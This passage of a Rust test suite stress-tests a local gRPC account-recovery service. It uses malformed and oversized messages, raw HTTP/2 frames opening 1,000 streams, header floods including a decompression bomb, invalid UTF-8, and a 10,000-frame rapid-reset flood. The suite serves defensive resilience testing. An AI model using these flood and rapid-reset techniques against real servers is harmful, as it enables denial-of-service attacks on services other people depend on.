                api::GetFamilyRecoveryStatusResponse::decode(&bytes[..])
                    .map_err(|e| format!("bad response: {e}"))?;
                Ok("OK (a family, or none: only what hostile puts made)".into())
            }
            // The account service's mirror takes any well-formed membership, however odd its
            // values (each passed the same checks as a normal one); so a threshold of 1 to 10
            // for any well-formed account id.
            Rpc::PutFamilyMember | Rpc::RemoveFamilyMember => Ok("OK (a valid membership)".into()),
            Rpc::SetRecoveryContactThreshold => Ok("OK (a valid threshold)".into()),
            Rpc::GetRecoveryContacts => {
                let response = api::GetRecoveryContactsResponse::decode(&bytes[..])
                    .map_err(|e| format!("bad response: {e}"))?;
                if !response.contacts.is_empty() {
                    return Err(format!(
                        "a hostile account id listed contacts: {response:?}"
                    ));
                }
                Ok("OK (no contacts)".into())
            }
            Rpc::ListContactRequests => {
                let response = api::ListContactRequestsResponse::decode(&bytes[..])
                    .map_err(|e| format!("bad response: {e}"))?;
                if !response.requests.is_empty() {
                    return Err(format!("a hostile account id saw requests: {response:?}"));
                }
                Ok("OK (no requests)".into())
            }
            // Forgetting an account nobody knows answers OK and changes nothing (the victim's
            // trail is checked after the storm).
            Rpc::ForgetAccount => Ok("OK (nothing to forget)".into()),
            _ => Err("OK to a hostile request that changes state".into()),
        },
        Err(s) => {
            let info = s.get_details_error_info();
            match info {
                Some(info)
                    if info.domain == DOMAIN
                        && !info.reason.is_empty()
                        && !matches!(s.code(), Code::Internal | Code::Unknown | Code::Ok) =>
                {
                    Ok(format!("{:?} {}", s.code(), info.reason))
                }
                _ => Err(format!("parsed request answered {s:?}")),
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_malformed_calls_from_64_connections_are_refused_cleanly() {
    const CALLS: usize = 10_000;
    const CONNECTIONS: usize = 64;
    let server = start(Options::default()).await;
    let setup = server.channel().await.unwrap();

    // An enrolled victim: an injection that matched it would show in the answers.
    let mut client = RecoveryServiceClient::new(setup.clone());
    let victim = client
        .create_recovery_code(api::CreateRecoveryCodeRequest {
            account_id: "victim".into(),
            email: "victim@example.com".into(),
        })
        .await
        .unwrap()
        .into_inner();
    let audit = || api::ListAuditEventsRequest {
        account_id: "victim".into(),
        page_size: 100,
        page_token: String::new(),
    };
    let events_before = client
        .list_audit_events(audit())
        .await
        .unwrap()
        .into_inner();

    let strings = Arc::new(hostile_strings());
    let next = Arc::new(AtomicUsize::new(0));
    let tally = Arc::new(Mutex::new(BTreeMap::<String, usize>::new()));
    let mut tasks = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (channel, connections) = counted_channel(&server).await;
        let (next, strings, tally) = (Arc::clone(&next), Arc::clone(&strings), Arc::clone(&tally));
        tasks.spawn(async move {
            let mut failures = Vec::new();
            loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= CALLS {
                    break;
                }
                let (rpc, body) = malformed_case(i as u64, &strings);
                let answer = raw_call(channel.clone(), rpc, body.clone()).await;
                match judge(rpc, &body, &answer) {
                    Ok(kind) => *tally.lock().unwrap().entry(kind).or_default() += 1,
                    Err(why) => {
                        failures.push(format!("case {i} ({rpc:?}, {} bytes): {why}", body.len()))
                    }
                }
            }
            (failures, connections.load(Ordering::SeqCst))
        });
    }
    let mut failures = Vec::new();
    while let Some(done) = tasks.join_next().await {
        let (mut failed, connections) = done.unwrap();
        failures.append(&mut failed);
        assert_eq!(connections, 1, "a connection was cut and reopened");
    }
    let tally = tally.lock().unwrap().clone();
    eprintln!("answers to {CALLS} malformed calls: {tally:#?}");
    assert!(
        failures.is_empty(),
        "{} of {CALLS} answers were wrong, e.g.:\n{}",
        failures.len(),
        failures
            .iter()
            .take(10)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_eq!(tally.values().sum::<usize>(), CALLS);
    // The mix reached the service's own validation, not only the decoder.
    assert!(
        tally.keys().any(|k| k.starts_with("InvalidArgument")),
        "{tally:?}"
    );

    // The victim is untouched.
    let status = client
        .get_recovery_status(api::GetRecoveryStatusRequest {
            account_id: "victim".into(),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(status.enrolled);
    assert_eq!(status.code_id, victim.code_id);
    let events_after = client
        .list_audit_events(audit())
        .await
        .unwrap()
        .into_inner();
    assert_eq!(events_after.events, events_before.events);
    assert!(events_after.chain_valid);

    afterwards(&server, setup, "malformed").await;
}

// ---------------------------------------------------------------------------------------------
// 3. Oversized messages.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn five_mib_messages_are_refused_on_every_rpc() {
    let server = start(Options::default()).await;
    let (channel, connections) = counted_channel(&server).await;

    // 5 MiB, 4 at a time on each RPC: 160 MiB sent, more than the RSS limit if it were buffered.
    let five_mib = Arc::new(len_field(1, &vec![b'a'; 5 * 1024 * 1024]));
    let mut tasks = JoinSet::new();
    for rpc in RPCS {
        for _ in 0..4 {
            let (channel, body) = (channel.clone(), Arc::clone(&five_mib));
            tasks.spawn(async move { (rpc, raw_call(channel, rpc, body.to_vec()).await) });
        }
    }
    while let Some(done) = tasks.join_next().await {
        let (rpc, answer) = done.unwrap();
        let status = answer.expect_err("a 5 MiB message is never OK");
        assert!(
            matches!(status.code(), Code::OutOfRange | Code::ResourceExhausted),
            "{rpc:?}: {status:?}"
        );
        // The service's 64 KiB limit, not tonic's 4 MiB default.
        assert!(status.message().contains("65536"), "{rpc:?}: {status:?}");
    }

    // Just over the limit (under tonic's default) is refused too; just under it reaches the
    // service, which judges the content.
    for rpc in RPCS {
        let over = len_field(1, &vec![b'a'; MAX_MESSAGE]);
        let status = raw_call(channel.clone(), rpc, over).await.unwrap_err();
        assert!(
            matches!(status.code(), Code::OutOfRange | Code::ResourceExhausted),
            "{rpc:?}: {status:?}"
        );
        let under = len_field(1, &vec![b'a'; MAX_MESSAGE - 16]);
        let status = raw_call(channel.clone(), rpc, under).await.unwrap_err();
        // A request that is only a flow id: an unknown one (FLOW_NOT_FOUND).
        let want = if rpc == Rpc::CompleteContactRecovery {
            Code::NotFound
        } else {
            Code::InvalidArgument
        };
        assert_eq!(status.code(), want, "{rpc:?}: {status:?}");
        assert_eq!(status.get_details_error_info().unwrap().domain, DOMAIN);
    }
    assert_eq!(
        connections.load(Ordering::SeqCst),
        1,
        "the connection was cut"
    );

    afterwards(&server, channel, "five-mib").await;
}

// ---------------------------------------------------------------------------------------------
// 4. 1,000 streams on one connection: raw HTTP/2 frames, so that the client does not hold
// itself to the server's limit.

mod frames {
    use std::{collections::BTreeMap, net::SocketAddr};

    use tokio::{
        io::{AsyncReadExt as _, AsyncWriteExt as _},
        net::TcpStream,
    };

    pub const DATA: u8 = 0x0;
    pub const HEADERS: u8 = 0x1;
    pub const RST_STREAM: u8 = 0x3;
    pub const SETTINGS: u8 = 0x4;
    pub const PING: u8 = 0x6;
    pub const GOAWAY: u8 = 0x7;
    pub const END_STREAM: u8 = 0x1;
    pub const ACK: u8 = 0x1;
    pub const END_HEADERS: u8 = 0x4;
    pub const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
    pub const SETTINGS_MAX_HEADER_LIST_SIZE: u16 = 0x6;
    pub const REFUSED_STREAM: u32 = 0x7;

    #[derive(Debug)]
    pub struct Frame {
        pub kind: u8,
        pub flags: u8,
        pub stream: u32,
        pub payload: Vec<u8>,
    }

    pub fn encode(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let len = u32::try_from(payload.len()).unwrap();
        let mut out = len.to_be_bytes()[1..].to_vec();
        out.extend([kind, flags]);
        out.extend((stream & 0x7fff_ffff).to_be_bytes());
        out.extend(payload);
        out
    }

    pub async fn read(tcp: &mut TcpStream) -> std::io::Result<Frame> {
        let mut head = [0u8; 9];
        tcp.read_exact(&mut head).await?;
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; len];
        tcp.read_exact(&mut payload).await?;
        Ok(Frame {
            kind: head[3],
            flags: head[4],
            stream: u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff,
            payload,
        })
    }

    /// An HPACK integer with a 7-bit prefix (RFC 7541 §5.1).
    fn int7(mut n: usize, out: &mut Vec<u8>) {
        if n < 127 {
            out.push(n as u8);
            return;
        }
        out.push(127);
        n -= 127;
        while n >= 128 {
            out.push((n % 128) as u8 | 0x80);
            n /= 128;
        }
        out.push(n as u8);
    }

    /// A header block of literals without indexing (no dynamic table state to keep).
    pub fn header_block(headers: &[(&str, &str)]) -> Vec<u8> {
        let mut out = Vec::new();
        for (name, value) in headers {
            out.push(0x00);
            int7(name.len(), &mut out);
            out.extend(name.as_bytes());
            int7(value.len(), &mut out);
            out.extend(value.as_bytes());
        }
        out
    }

    pub async fn write(tcp: &mut TcpStream, bytes: &[u8]) {
        tcp.write_all(bytes).await.unwrap();
    }

    /// Connects, exchanges SETTINGS (acknowledging the server's), and answers the server's
    /// settings by identifier.
    pub async fn handshake(addr: SocketAddr) -> (TcpStream, BTreeMap<u16, u32>) {
        let mut tcp = TcpStream::connect(addr).await.unwrap();
        tcp.set_nodelay(true).unwrap();
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        hello.extend(encode(SETTINGS, 0, 0, &[]));
        write(&mut tcp, &hello).await;
        let settings = loop {
            let frame = read(&mut tcp).await.unwrap();
            if frame.kind == SETTINGS && frame.flags & ACK == 0 {
                break frame
                    .payload
                    .chunks_exact(6)
                    .map(|p| {
                        (
                            u16::from_be_bytes([p[0], p[1]]),
                            u32::from_be_bytes([p[2], p[3], p[4], p[5]]),
                        )
                    })
                    .collect();
            }
        };
        write(&mut tcp, &encode(SETTINGS, ACK, 0, &[])).await;
        (tcp, settings)
    }

    /// The header block of a gRPC call to `path`.
    pub fn grpc_headers(addr: SocketAddr, path: &str) -> Vec<u8> {
        header_block(&[
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", &addr.to_string()),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ])
    }
}

/// The raw client's view of its connection.
#[derive(Debug, Default)]
struct RawState {
    /// Streams the server ended (END_STREAM on HEADERS or DATA).
    answered: BTreeSet<u32>,
    /// RST_STREAM frames: (stream, error code).
    resets: Vec<(u32, u32)>,
}

/// Reads frames until `done` holds, answering PINGs; a GOAWAY fails the test.
async fn read_until(tcp: &mut TcpStream, state: &mut RawState, done: impl Fn(&RawState) -> bool) {
    tokio::time::timeout(Duration::from_secs(20), async {
        while !done(state) {
            let frame = frames::read(tcp).await.unwrap();
            match frame.kind {
                frames::HEADERS | frames::DATA if frame.flags & frames::END_STREAM != 0 => {
                    state.answered.insert(frame.stream);
                }
                frames::RST_STREAM => {
                    let code = u32::from_be_bytes(frame.payload[..4].try_into().unwrap());
                    state.resets.push((frame.stream, code));
                }
                frames::GOAWAY => panic!(
                    "server sent GOAWAY: error {:?}, {:?}",
                    &frame.payload[4..8],
                    String::from_utf8_lossy(&frame.payload[8..])
                ),
                frames::PING if frame.flags & frames::ACK == 0 => {
                    frames::write(
                        tcp,
                        &frames::encode(frames::PING, frames::ACK, 0, &frame.payload),
                    )
                    .await;
                }
                _ => {}
            }
        }
    })
    .await
    .unwrap_or_else(|_| panic!("no progress for 20 s: {state:?}"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_streams_on_one_connection_are_limited_to_128_and_all_answered() {
    let server = start(Options::default()).await;
    let request_headers = frames::grpc_headers(server.addr, &Rpc::GetRecoveryStatus.path());
    // An empty GetRecoveryStatusRequest: answered INVALID_ARGUMENT.
    let empty_message = [0u8; 5];

    let (mut tcp, settings) = frames::handshake(server.addr).await;
    assert_eq!(
        settings.get(&frames::SETTINGS_MAX_CONCURRENT_STREAMS),
        Some(&MAX_STREAMS),
        "{settings:?}"
    );
    assert_eq!(
        settings.get(&frames::SETTINGS_MAX_HEADER_LIST_SIZE),
        Some(&(16 * 1024)),
        "{settings:?}"
    );

    // 128 calls whose bodies never come hold every slot; a 129th is refused, on its own.
    let mut state = RawState::default();
    let held: Vec<u32> = (0..MAX_STREAMS).map(|k| 1 + 2 * k).collect();
    let mut out = Vec::new();
    for id in &held {
        out.extend(frames::encode(
            frames::HEADERS,
            frames::END_HEADERS,
            *id,
            &request_headers,
        ));
    }
    let over = 1 + 2 * MAX_STREAMS;
    out.extend(frames::encode(
        frames::HEADERS,
        frames::END_HEADERS,
        over,
        &request_headers,
    ));
    frames::write(&mut tcp, &out).await;
    read_until(&mut tcp, &mut state, |s| !s.resets.is_empty()).await;
    assert_eq!(state.resets, vec![(over, frames::REFUSED_STREAM)]);
    assert!(state.answered.is_empty(), "{state:?}");

    // The held calls finish their bodies and are all answered.
    let mut out = Vec::new();
    for id in &held {
        out.extend(frames::encode(
            frames::DATA,
            frames::END_STREAM,
            *id,
            &empty_message,
        ));
    }
    frames::write(&mut tcp, &out).await;
    read_until(&mut tcp, &mut state, |s| {
        held.iter().all(|id| s.answered.contains(id))
    })
    .await;

    // The same connection carries the rest of the thousand, 128 at a time.
    let mut opened = held.len() + 1;
    let mut next_id = over + 2;
    while opened < 1000 {
        let batch: Vec<u32> = (0..(1000 - opened).min(MAX_STREAMS as usize))
            .map(|k| next_id + 2 * k as u32)
            .collect();
        let mut out = Vec::new();
        for id in &batch {
            out.extend(frames::encode(
                frames::HEADERS,
                frames::END_HEADERS,
                *id,
                &request_headers,
            ));
            out.extend(frames::encode(
                frames::DATA,
                frames::END_STREAM,
                *id,
                &empty_message,
            ));
        }
        frames::write(&mut tcp, &out).await;
        read_until(&mut tcp, &mut state, |s| {
            batch.iter().all(|id| s.answered.contains(id))
        })
        .await;
        opened += batch.len();
        next_id += 2 * batch.len() as u32;
    }
    assert_eq!(opened, 1000);
    assert_eq!(
        state.answered.len(),
        999,
        "every stream but the refused one"
    );
    assert_eq!(state.resets.len(), 1, "{:?}", state.resets);
    drop(tcp);

    // A well-behaved client (tonic) with 1,000 concurrent calls on one channel: all answered
    // by the service, over one connection.
    let (channel, connections) = counted_channel(&server).await;
    let mut tasks = JoinSet::new();
    for i in 0..1000 {
        let mut client = RecoveryServiceClient::new(channel.clone());
        tasks.spawn(async move {
            client
                .get_recovery_status(api::GetRecoveryStatusRequest {
                    account_id: format!("nobody-{i}"),
                })
                .await
        });
    }
    let mut answered = 0;
    while let Some(done) = tasks.join_next().await {
        let response = done.unwrap().unwrap().into_inner();
        assert!(!response.enrolled);
        answered += 1;
    }
    assert_eq!(answered, 1000);
    assert_eq!(
        connections.load(Ordering::SeqCst),
        1,
        "the connection was cut"
    );

    afterwards(&server, channel, "streams").await;
}

// ---------------------------------------------------------------------------------------------
// 5. Header floods, with the h2 crate (it sends what it is given, whatever the server's limit).

async fn h2_connect(
    addr: SocketAddr,
) -> (
    h2::client::SendRequest<Bytes>,
    tokio::task::JoinHandle<Result<(), h2::Error>>,
) {
    let tcp = TcpStream::connect(addr).await.unwrap();
    tcp.set_nodelay(true).unwrap();
    let (send, connection) = h2::client::handshake(tcp).await.unwrap();
    (send, tokio::spawn(connection))
}

fn h2_request(addr: SocketAddr, path: &str) -> http::Request<()> {
    http::Request::builder()
        .method("POST")
        .uri(format!("http://{addr}{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap()
}

/// A gRPC health check over raw h2: (HTTP status, grpc-status).
async fn h2_health(
    send: &h2::client::SendRequest<Bytes>,
    request: http::Request<()>,
) -> Result<(http::StatusCode, Option<String>), h2::Error> {
    let mut send = send.clone().ready().await?;
    let (response, mut body) = send.send_request(request, false)?;
    // An empty HealthCheckRequest.
    body.send_data(Bytes::from_static(&[0, 0, 0, 0, 0]), true)?;
    let response = response.await?;
    let status = response.status();
    let mut grpc_status = response
        .headers()
        .get("grpc-status")
        .map(|v| v.to_str().unwrap_or_default().to_owned());
    let mut body = response.into_body();
    while let Some(chunk) = body.data().await {
        let chunk = chunk?;
        body.flow_control().release_capacity(chunk.len())?;
    }
    if let Some(trailers) = body.trailers().await? {
        grpc_status = trailers
            .get("grpc-status")
            .map(|v| v.to_str().unwrap_or_default().to_owned());
    }
    Ok((status, grpc_status))
}

const HEALTH_CHECK: &str = "/grpc.health.v1.Health/Check";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn header_floods_are_refused_and_the_server_keeps_serving() {
    let server = start(Options::default()).await;
    let addr = server.addr;
    let serving = (http::StatusCode::OK, Some("0".to_owned()));

    // Over 16 KiB decoded but small on the wire (one 1 KiB header repeated 20 times, indexed
    // by HPACK): the stream is refused, the connection keeps serving.
    let (send, connection) = h2_connect(addr).await;
    assert_eq!(
        h2_health(&send, h2_request(addr, HEALTH_CHECK))
            .await
            .unwrap(),
        serving
    );
    let mut request = h2_request(addr, HEALTH_CHECK);
    for _ in 0..20 {
        request.headers_mut().append(
            "x-flood",
            http::HeaderValue::from_str(&"v".repeat(1024)).unwrap(),
        );
    }
    let answer = h2_health(&send, request).await;
    eprintln!("20 x 1 KiB headers: {answer:?}");
    match &answer {
        Ok((status, _)) => assert_eq!(*status, http::StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE),
        Err(e) => assert!(e.is_reset() && e.is_remote(), "{e:?}"),
    }
    assert_eq!(
        h2_health(&send, h2_request(addr, HEALTH_CHECK))
            .await
            .unwrap(),
        serving,
        "the connection survives a refused header list"
    );
    assert!(!connection.is_finished());
    drop(send);

    // 200 distinct 1 KiB headers (200 KiB on the wire) and 200 copies of one (a decompression
    // bomb), 8 connections each at once: refused, by stream or connection error.
    let mut tasks = JoinSet::new();
    for k in 0..16 {
        tasks.spawn(async move {
            let (send, connection) = h2_connect(addr).await;
            let mut request = h2_request(addr, HEALTH_CHECK);
            for i in 0..200 {
                let name = if k % 2 == 0 {
                    format!("x-flood-{i}")
                } else {
                    "x-flood".to_owned()
                };
                request.headers_mut().append(
                    http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
                    http::HeaderValue::from_str(&format!("{i:04}{}", "v".repeat(1020))).unwrap(),
                );
            }
            let answer = h2_health(&send, request).await;
            drop(send);
            let closed = tokio::time::timeout(Duration::from_secs(10), connection).await;
            (k, answer, closed)
        });
    }
    while let Some(done) = tasks.join_next().await {
        let (k, answer, closed) = done.unwrap();
        eprintln!(
            "200 x 1 KiB headers ({}): {answer:?}; connection: {closed:?}",
            if k % 2 == 0 { "distinct" } else { "repeated" }
        );
        match answer {
            Ok((status, _)) => {
                assert_eq!(status, http::StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
            }
            // Refused by the server: a stream reset, a GOAWAY, or the connection closed under
            // the client while it was still writing.
            Err(e) => assert!(
                (e.is_remote() && (e.is_reset() || e.is_go_away())) || e.is_io(),
                "{e:?}"
            ),
        }
    }

    let channel = server.channel().await.unwrap();
    afterwards(&server, channel, "headers").await;
}

// ---------------------------------------------------------------------------------------------
// 6. Invalid UTF-8 in string fields.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_utf8_in_strings_is_refused_and_the_connection_survives() {
    let server = start(Options::default()).await;
    let (channel, connections) = counted_channel(&server).await;
    let invalid = [0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80];
    let mut seen = Vec::new();
    for rpc in RPCS {
        // Field 1 (a string in every request), and field 2 (a string, or for BeginRecovery
        // the ClientContext whose field 1 is a string; for ListAuditEvents field 3).
        let second = match rpc {
            Rpc::BeginRecovery | Rpc::BeginContactRecovery => {
                Some(len_field(2, &len_field(1, &invalid)))
            }
            // One string field, or bytes (or a number) after it.
            Rpc::GetRecoveryStatus
            | Rpc::GetFamilyRecoveryStatus
            | Rpc::GetRecoveryContacts
            | Rpc::ListContactRequests
            | Rpc::CompleteContactRecovery
            | Rpc::SetRecoveryContactThreshold
            | Rpc::StartZeroKnowledgeEnrollment
            | Rpc::StartZeroKnowledgeRecovery
            | Rpc::FinishZeroKnowledgeRecovery => None,
            Rpc::ListAuditEvents => Some(len_field(3, &invalid)),
            _ => Some(len_field(2, &invalid)),
        };
        let cases = std::iter::once(("field 1", len_field(1, &invalid)))
            .chain(second.map(|body| ("field 2+", body)));
        for (field, body) in cases {
            assert!(rpc.decode(&body).is_err(), "the case must be invalid UTF-8");
            let status = raw_call(channel.clone(), rpc, body)
                .await
                .expect_err("invalid UTF-8 is never OK");
            // The transport's answer to an undecodable body (tonic's INTERNAL, re-labelled
            // INVALID_ARGUMENT by the service), without ErrorInfo.
            assert_eq!(status.code(), Code::InvalidArgument, "{rpc:?}: {status:?}");
            assert!(
                status
                    .message()
                    .starts_with("failed to decode Protobuf message"),
                "{rpc:?}: {status:?}"
            );
            seen.push(format!(
                "{rpc:?} {field}: {:?} {:?} (ErrorInfo: {:?})",
                status.code(),
                status.message(),
                status.get_details_error_info().map(|i| i.reason)
            ));
        }
    }
    eprintln!("invalid UTF-8 answers:\n  {}", seen.join("\n  "));
    assert_eq!(
        connections.load(Ordering::SeqCst),
        1,
        "the connection was cut"
    );
    afterwards(&server, channel, "utf8").await;
}

// ---------------------------------------------------------------------------------------------
// 7. Rapid reset, both sides.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_expiring_deadlines_does_not_cut_off_the_caller() {
    let server = start(Options::default()).await;
    let (channel, connections) = counted_channel(&server).await;
    let mut client = RecoveryServiceClient::new(channel.clone());
    client
        .get_recovery_status(api::GetRecoveryStatusRequest {
            account_id: "warm-up".into(),
        })
        .await
        .unwrap();
    assert_eq!(connections.load(Ordering::SeqCst), 1);

    // Three bursts of 300 calls with 1 ms deadlines on one channel: each expiry resets its
    // stream (RST_STREAM), as an auth service under load does.
    let mut codes = BTreeMap::<String, usize>::new();
    for burst in 0..3 {
        let mut tasks = JoinSet::new();
        for i in 0..300 {
            let mut client = RecoveryServiceClient::new(channel.clone());
            tasks.spawn(async move {
                if i % 2 == 0 {
                    let mut request = Request::new(api::GetRecoveryStatusRequest {
                        account_id: format!("deadline-{burst}-{i}"),
                    });
                    request.set_timeout(Duration::from_millis(1));
                    client.get_recovery_status(request).await.map(drop)
                } else {
                    let mut request = Request::new(api::CreateRecoveryCodeRequest {
                        account_id: format!("deadline-{burst}-{i}"),
                        email: format!("deadline-{burst}-{i}@example.com"),
                    });
                    request.set_timeout(Duration::from_millis(1));
                    client.create_recovery_code(request).await.map(drop)
                }
            });
        }
        while let Some(done) = tasks.join_next().await {
            let code = done.unwrap().map_or_else(|s| s.code(), |()| Code::Ok);
            *codes.entry(format!("{code:?}")).or_default() += 1;
        }
        // The client answers itself at 1 ms; the server may still hold the burst's reset
        // streams in its accept queue (a loaded CI box once had all 900 there at once, over
        // the server's limit of 512 that guards against rapid-reset floods). A call without a
        // deadline on the same connection is accepted after them: the next burst starts once
        // the server has taken this one in, so each burst of 300 stands on its own.
        RecoveryServiceClient::new(channel.clone())
            .get_recovery_status(api::GetRecoveryStatusRequest {
                account_id: format!("between-{burst}"),
            })
            .await
            .unwrap();
    }
    eprintln!("answers to 900 calls with 1 ms deadlines: {codes:?}");
    assert!(
        codes.keys().all(
            |c| ["DeadlineExceeded", "Cancelled", "Ok", "ResourceExhausted"].contains(&c.as_str())
        ),
        "{codes:?}"
    );
    // The client gives up at its deadline (tonic answers CANCELLED "Timeout expired").
    let expired = codes.get("DeadlineExceeded").copied().unwrap_or(0)
        + codes.get("Cancelled").copied().unwrap_or(0);
    assert!(expired >= 450, "most calls must expire: {codes:?}");

    // The same connection still serves: no GOAWAY, no reconnect.
    client
        .get_recovery_status(api::GetRecoveryStatusRequest {
            account_id: "after-burst".into(),
        })
        .await
        .unwrap();
    assert_eq!(
        connections.load(Ordering::SeqCst),
        1,
        "the server cut the caller's connection (GOAWAY) over its expired deadlines"
    );
    afterwards(&server, channel, "deadlines").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rapid_reset_flood_is_cut_off_with_goaway() {
    let server = start(Options::default()).await;
    let addr = server.addr;
    let serving = (http::StatusCode::OK, Some("0".to_owned()));

    // Raw frames, so that the client neither paces the flood nor hides what ends it.
    let (tcp, _) = frames::handshake(addr).await;
    let (mut reader, mut writer) = tcp.into_split();
    let goaway = tokio::spawn(async move {
        // Every frame until the server's GOAWAY, then whether the connection closes after it.
        let mut head = [0u8; 9];
        loop {
            reader.read_exact(&mut head).await?;
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0; len];
            reader.read_exact(&mut payload).await?;
            if head[3] == frames::GOAWAY {
                let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                let mut rest = Vec::new();
                let closed =
                    tokio::time::timeout(Duration::from_secs(10), reader.read_to_end(&mut rest))
                        .await
                        .is_ok();
                return Ok::<_, std::io::Error>((code, debug, closed));
            }
        }
    });

    // HEADERS of a health check immediately followed by RST_STREAM(CANCEL), 10,000 times.
    let headers = frames::grpc_headers(addr, HEALTH_CHECK);
    let mut flood = Vec::new();
    for k in 0..10_000u32 {
        let id = 1 + 2 * k;
        flood.extend(frames::encode(
            frames::HEADERS,
            frames::END_HEADERS,
            id,
            &headers,
        ));
        flood.extend(frames::encode(
            frames::RST_STREAM,
            0,
            id,
            &0x8u32.to_be_bytes(),
        ));
    }
    // The server may close while this is still being written.
    let written = writer.write_all(&flood).await;
    let (code, debug, closed) = tokio::time::timeout(Duration::from_secs(20), goaway)
        .await
        .expect("no GOAWAY within 20 s of the flood")
        .unwrap()
        .unwrap_or_else(|e| panic!("the connection ended without a GOAWAY: {e:?}"));
    eprintln!("rapid reset: GOAWAY {code} {debug:?}, closed {closed}; flood written: {written:?}");
    assert_eq!(code, 0xb, "ENHANCE_YOUR_CALM");
    assert_eq!(debug, "too_many_resets");
    assert!(closed, "the connection stays open after GOAWAY");

    // A fresh connection is served.
    let (send, _connection) = h2_connect(addr).await;
    assert_eq!(
        h2_health(&send, h2_request(addr, HEALTH_CHECK))
            .await
            .unwrap(),
        serving
    );
    let channel = server.channel().await.unwrap();
    afterwards(&server, channel, "rapid-reset").await;
}
